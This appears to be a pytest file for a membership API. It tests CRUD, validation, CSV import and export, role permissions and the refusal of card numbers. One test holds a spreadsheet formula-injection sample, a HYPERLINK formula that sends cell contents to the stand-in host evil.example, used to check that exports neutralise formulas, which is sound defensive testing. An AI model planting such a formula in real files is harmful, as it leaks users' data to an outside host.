"""The members REST API: CRUD, levels, search, CSV import/export, links, bulk."""

from __future__ import annotations

import csv
import io
import json

from ledgerlink.identity.roles import Role
from ledgerlink.store.db import Database
from tests.support.members import HEADER
from tests.support.web import make_user

ROW = (
    "M00001,Jane,Doe,,jane@example.org,212-555-0123,personal,standard,active,"
    "123 main street,,new york,NY,10001,US"
)


def _auth(db: Database, role: Role = Role.ADMIN) -> dict[str, str]:
    return {"Authorization": f"Bearer {make_user(db, role, f'{role.value}@example.org').token}"}


def _level(client, headers) -> None:  # type: ignore[no-untyped-def]
    response = client.post(
        "/api/v1/membership-levels",
        json={"code": "standard", "name": "Standard", "annual_fee": "120.00", "currency": "usd"},
        headers=headers,
    )
    assert response.status_code == 201, response.text
    assert response.json()["annual_fee"] == "120.00"


def test_member_crud_through_the_api(client, db: Database) -> None:
    headers = _auth(db)
    _level(client, headers)
    body = {
        "member_number": "m7",
        "first_name": "Jane",
        "last_name": "Doe",
        "email": "Jane@Example.org",
        "phone": "212 555 0123",
        "membership_level": "standard",
    }
    created = client.post("/api/v1/members", json=body, headers=headers)
    assert created.status_code == 201, created.text
    assert created.json()["member_number"] == "M7"
    assert created.json()["phone"] == "+12125550123"
    assert client.post("/api/v1/members", json=body, headers=headers).status_code == 409

    changed = client.put(
        "/api/v1/members/M7", json={**body, "status": "suspended"}, headers=headers
    )
    assert changed.status_code == 200
    assert changed.json()["status"] == "suspended"
    found = client.get(
        "/api/v1/members", params={"q": "doe", "status": "suspended"}, headers=headers
    )
    assert [m["number"] for m in found.json()["items"]] == ["M7"]
    assert client.delete("/api/v1/members/M7", headers=headers).status_code == 204
    assert client.get("/api/v1/members/M7", headers=headers).status_code == 404


def test_bad_member_input_names_every_field_and_the_fix(client, db: Database) -> None:
    headers = _auth(db)
    _level(client, headers)
    response = client.post(
        "/api/v1/members",
        json={
            "member_number": "M 1!",
            "email": "nope",
            "phone": "123",
            "membership_level": "platinum",
            "account_type": "corporate",
        },
        headers=headers,
    )
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("application/problem+json")
    fields = {e["field"] for e in response.json()["errors"]}
    assert fields == {"member_number", "email", "phone", "organisation"}
    bad_level = client.post(
        "/api/v1/members",
        json={
            "member_number": "M1",
            "first_name": "A",
            "last_name": "B",
            "membership_level": "platinum",
        },
        headers=headers,
    )
    assert bad_level.status_code == 422
    assert "use one of: standard" in bad_level.json()["errors"][0]["message"]


def test_a_level_fee_must_be_a_decimal_string(client, db: Database) -> None:
    headers = _auth(db)
    response = client.post(
        "/api/v1/membership-levels",
        json={"code": "gold", "name": "Gold", "annual_fee": "12.345", "currency": "USD"},
        headers=headers,
    )
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "annual_fee"


def test_csv_import_reports_bad_rows_and_export_round_trips(client, db: Database) -> None:
    headers = _auth(db)
    _level(client, headers)
    csv_text = "\n".join([HEADER, ROW, "M00002,Bad,Row,,bad-email,,personal,standard,active,,,,,,"])
    files = {"file": ("members.csv", csv_text.encode(), "text/csv")}
    response = client.post("/api/v1/members/import", files=files, headers=_auth(db, Role.OPERATOR))
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["created"], report["rejected"]) == (1, 1)
    assert report["errors"] == [
        {
            "line": 3,
            "field": "email",
            "reason": report["errors"][0]["reason"],
            "member_number": "M00002",
        }
    ]
    exported = client.get("/api/v1/members/export", headers=headers)
    assert exported.headers["content-type"].startswith("text/csv")
    again = client.post(
        "/api/v1/members/import",
        files={"file": ("again.csv", exported.content, "text/csv")},
        headers=headers,
    ).json()
    assert (again["created"], again["updated"], again["unchanged"]) == (0, 0, 1)


def test_a_file_that_is_not_utf8_is_refused_with_the_fix(client, db: Database) -> None:
    headers = _auth(db)
    response = client.post(
        "/api/v1/members/import",
        files={
            "file": (
                "m.csv",
                "member_number,membership_level\nM1,caf\xe9\n".encode("latin-1"),
                "text/csv",
            )
        },
        headers=headers,
    )
    assert response.status_code == 422
    assert "CSV UTF-8" in response.json()["detail"]


def test_linking_needs_a_ledger_connection_and_says_which(client, db: Database) -> None:
    headers = _auth(db)
    _level(client, headers)
    client.post(
        "/api/v1/members",
        json={
            "member_number": "M1",
            "first_name": "A",
            "last_name": "B",
            "membership_level": "standard",
        },
        headers=headers,
    )
    missing = client.post(
        "/api/v1/members/M1/links", json={"connection_id": 99, "create": True}, headers=headers
    )
    assert missing.status_code == 404
    assert missing.json()["errors"][0]["field"] == "connection_id"
    both = client.post(
        "/api/v1/members/M1/links",
        json={"connection_id": 1, "create": True, "customer_id": "x"},
        headers=headers,
    )
    assert both.status_code == 422
    assert client.get("/api/v1/members/M1/links", headers=headers).json() == []


def test_a_viewer_reads_but_cannot_import(client, db: Database) -> None:
    headers = _auth(db, Role.VIEWER)
    assert client.get("/api/v1/members", headers=headers).status_code == 200
    response = client.post(
        "/api/v1/members/import",
        files={"file": ("m.csv", b"member_number\n", "text/csv")},
        headers=headers,
    )
    assert response.status_code == 403


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_members_named_like_formulas_are_exported_as_text_and_read_back_unchanged(
    client, db: Database
) -> None:  # type: ignore[no-untyped-def]
    headers = _auth(db)
    _level(client, headers)
    for number, name in enumerate(FORMULAS, start=1):
        created = client.post(
            "/api/v1/members",
            json={
                "member_number": f"M{number}",
                "first_name": name,
                "last_name": name,
                "organisation": name,
                "membership_level": "standard",
            },
            headers=headers,
        )
        assert created.status_code == 201, created.text
    exported = client.get("/api/v1/members/export", headers=headers)
    header, *rows = csv.reader(io.StringIO(exported.text))
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_START)] == []
    first_names = [row[header.index("first_name")] for row in rows]
    assert first_names == ["'" + name for name in FORMULAS]
    again = client.post(
        "/api/v1/members/import",
        files={"file": ("again.csv", exported.content, "text/csv")},
        headers=headers,
    ).json()
    assert (again["created"], again["updated"], again["unchanged"]) == (0, 0, 4)
    assert client.get("/api/v1/members/M1", headers=headers).json()["first_name"] == FORMULAS[0]


def test_card_numbers_in_member_fields_are_refused_naming_each_field(client, db: Database) -> None:  # type: ignore[no-untyped-def]
    headers = _auth(db)
    _level(client, headers)
    response = client.post(
        "/api/v1/members",
        json={
            "member_number": "M1",
            "first_name": "Jane",
            "last_name": "Doe 4111.1111.1111.1111",
            "address_line1": "4111/1111/1111/1111",
            "membership_level": "standard",
        },
        headers=headers,
    )
    assert response.status_code == 422
    errors = response.json()["errors"]
    assert {e["field"] for e in errors} == {"last_name", "address_line1"}
    assert all("card number" in e["message"] for e in errors)
    assert "4111" not in response.text
    rows = [
        "M00001,4111_1111_1111_1111,Doe,,,,personal,standard,active,,,,,,",
        "M00002,John,Smith,,,,personal,standard,active,,,,,,",
    ]
    imported = client.post(
        "/api/v1/members/import",
        files={"file": ("m.csv", "\n".join([HEADER, *rows]).encode(), "text/csv")},
        headers=headers,
    ).json()
    assert (imported["created"], imported["rejected"]) == (1, 1)
    assert [(e["line"], e["field"]) for e in imported["errors"]] == [(2, "first_name")]
    assert "4111" not in json.dumps(imported)
